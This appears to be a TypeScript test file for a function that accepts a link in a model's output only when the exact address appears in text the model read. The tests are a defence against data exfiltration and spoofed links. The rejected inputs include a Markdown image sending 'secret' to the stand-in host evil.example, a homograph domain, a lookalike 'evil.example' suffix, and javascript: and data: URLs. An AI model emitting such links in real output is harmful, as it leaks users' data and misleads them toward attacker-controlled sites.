// A link leads only where something that was read leads, to the last character, however it is written.
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { linksIn } from "./links.ts";

const SOURCE =
  "The form is at https://forms.example.com/leave?year=2026 (see also www.intra.example/a_(b)).";
const FORM = "https://forms.example.com/leave?year=2026";

test("an address that stands in a source is a link, in each way to write one", () => {
  for (const text of [
    `See ${FORM}.`,
    `See <${FORM}>`,
    `See [the form](${FORM}) now`,
    `See [the form][1]\n\n[1]: ${FORM}`,
    `See <a href="${FORM}">it</a>`,
    `See **${FORM}**`,
    "See HTTPS://FORMS.EXAMPLE.COM/leave?year=2026",
  ])
    expect([text, linksIn(text, [SOURCE])]).toEqual([text, [FORM]]);
  expect(linksIn("at www.intra.example/a_(b)", [SOURCE])).toContain(
    "https://www.intra.example/a_(b)",
  );
});

test("what the model has put into an address itself is none", () => {
  for (const text of [
    `${FORM}&secret=1`,
    `${FORM}#secret`,
    "https://forms.example.com/leave?year=2027",
    "https://forms.example.com/secret/leave?year=2026",
    "https://secret.forms.example.com/leave?year=2026",
    "https://secret@forms.example.com/leave?year=2026",
    "https://forms.example.com:8443/leave?year=2026",
    "http://forms.example.com/leave?year=2026",
    "https://forms.exаmple.com/leave?year=2026",
    "https://forms.example.com.evil.example/leave?year=2026",
    "![x](https://evil.example/?q=secret)",
    "javascript://forms.example.com/leave?year=2026",
    "data:text/html,https",
  ])
    expect([text, linksIn(text, [SOURCE])]).toEqual([text, []]);
});

test("nothing is a link where nothing was read, and nothing can be added to what was read", () => {
  fc.assert(
    fc.property(fc.webUrl({ withQueryParameters: true, withFragments: true }), (url) => {
      expect(linksIn(`see ${url} now`, [])).toEqual([]);
      for (const added of ["zqzq", "/zqzq", "?zqzq", "#zqzq"])
        expect(linksIn(`see ${url}${added} now`, [`see ${url} now`]).join(" ")).not.toContain(
          "zqzq",
        );
    }),
  );
});
